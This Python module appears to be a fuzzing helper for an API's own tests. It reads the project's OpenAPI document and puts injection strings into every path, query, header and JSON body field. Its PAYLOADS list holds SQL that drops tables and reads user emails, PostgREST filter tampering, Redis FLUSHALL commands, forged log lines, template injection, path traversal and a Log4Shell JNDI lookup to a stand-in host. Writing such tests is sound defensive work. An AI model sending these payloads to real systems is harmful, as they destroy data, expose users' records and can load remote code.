"""Every text that a caller can send, by the OpenAPI document, and texts that somebody might take for code.

A parameter, a header or a member of a body that is new in the document is among the fields by itself.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

__all__ = ["PAYLOADS", "Field", "fields_of", "published_operations"]

PAYLOADS = (
    # SQL
    "' OR '1'='1'; DROP TABLE games; --",
    "1) UNION SELECT id, email FROM auth.users; $$; DELETE FROM public.games; $$ \\",
    # PostgREST's filters, and patterns of LIKE
    "neq.null,user_id.neq.00000000-0000-0000-0000-000000000000)",
    "%&user_id=neq.0&select=*,analyses(*)",
    # Lua and Redis
    "]]; redis.call('FLUSHALL') --",
    "{kv}:users * 0 -1\r\nFLUSHALL\r\n",
    # Log lines, terminals, templates, paths
    '","level":"CRITICAL","message":"forged\n{"message":"forged"}\x1b[2J',
    "${jndi:ldap://evil.example}{{7*7}}%n%s<script>../../rpc/delete_user_v1\x00",
)
"""Each is several attempts in one, so that every field can be tried with all of them."""

EVERYWHERE = (
    "X-Request-Id",
    "Accept",
    "Accept-Language",
    "Cookie",
    "Origin",
    "Referer",
    "User-Agent",
    "X-Forwarded-For",
)
"""Headers that every operation may be sent, and none refuses. They are tried together."""

Json = dict[str, Any]
DOCUMENT: Json = json.loads((Path(__file__).parents[2] / "docs" / "openapi.json").read_text())


@dataclass(frozen=True, slots=True)
class Field:
    """One place in the requests of an operation."""

    method: str
    path: str
    operation: Json
    where: str
    """`path`, `query`, `header`, `json` or `text`."""
    name: str
    place: tuple[str | int, ...] = ()
    """Within a body of JSON."""

    def request(self, text: str, known_ids: Mapping[str, str]) -> Json:
        """httpx's arguments for an otherwise good request with this text in the field."""
        ids = {name: quote(value, safe="") for name, value in known_ids.items()}
        if self.where == "path":
            ids[self.name] = quote(text, safe="")
        headers = {
            one["name"]: one["schema"]["enum"][0].encode()
            for one in parameters(self.operation)
            if one["in"] == "header" and one.get("required")
        }
        request: Json = {"method": self.method, "url": self.path.format_map(ids), "headers": headers}
        content = self.operation.get("requestBody", {}).get("content", {})
        if self.where == "text":
            headers["Content-Type"] = self.name.encode()
            request["content"] = text.encode()
        elif content:
            body = copy.deepcopy(content["application/json"]["example"])
            headers["Content-Type"] = b"application/json"
            request["content"] = json.dumps(
                replaced(body, self.place, text) if self.where == "json" else body
            )
        if self.where == "query":
            request["params"] = {self.name: text}
        if self.where == "header":
            names = EVERYWHERE if self.name in EVERYWHERE else (self.name,)
            headers |= dict.fromkeys(names, as_header(text))
        return request


def published_operations() -> Iterator[tuple[str, str, Json]]:
    """Method, path and description of every operation in docs/openapi.json."""
    for path, methods in DOCUMENT["paths"].items():
        for method, operation in methods.items():
            yield method.upper(), path, operation


def fields_of(method: str, path: str, operation: Json) -> Iterator[Field]:
    """Every field of an operation, of whatever type: a number may be sent as text, too."""
    for one in parameters(operation):
        yield Field(method, path, operation, one["in"], one["name"])
    for media_type, body in operation.get("requestBody", {}).get("content", {}).items():
        yield Field(method, path, operation, "text", media_type)
        if media_type == "application/json":
            yield Field(method, path, operation, "header", "Content-Type")
            for place in places(body["schema"]):
                yield Field(method, path, operation, "json", ".".join(map(str, place)), place)


def parameters(operation: Json) -> Iterator[Json]:
    """An operation's parameters, references followed."""
    return map(resolved, operation["parameters"])


def places(schema: Json) -> Iterator[tuple[str | int, ...]]:
    """Every place for a value in a body."""
    for kind in map(resolved, resolved(schema).get("anyOf", [schema])):
        members = {**kind.get("properties", {}), **({0: kind["items"]} if "items" in kind else {})}
        for name, part in members.items():
            yield from ((name, *rest) for rest in places(part))
        if not members and kind.get("type") != "null":
            yield ()


def replaced(body: Any, place: tuple[str | int, ...], text: str) -> Any:
    """The body with a text in a place."""
    if not place:
        return text
    name, *rest = place
    known = body.get(name) if isinstance(name, str) else body[name]
    body[name] = replaced(known, tuple(rest), text)
    return body


def resolved(part: Json) -> Json:
    """What a reference within the document stands for."""
    while "$ref" in part:
        found: Any = DOCUMENT
        for name in part["$ref"].removeprefix("#/").split("/"):
            found = found[name]
        part = found
    return part


def as_header(text: str) -> bytes:
    """As much of a text as HTTP carries in a header: it has no control characters."""
    return "".join(char if char.isprintable() else " " for char in text).strip().encode()
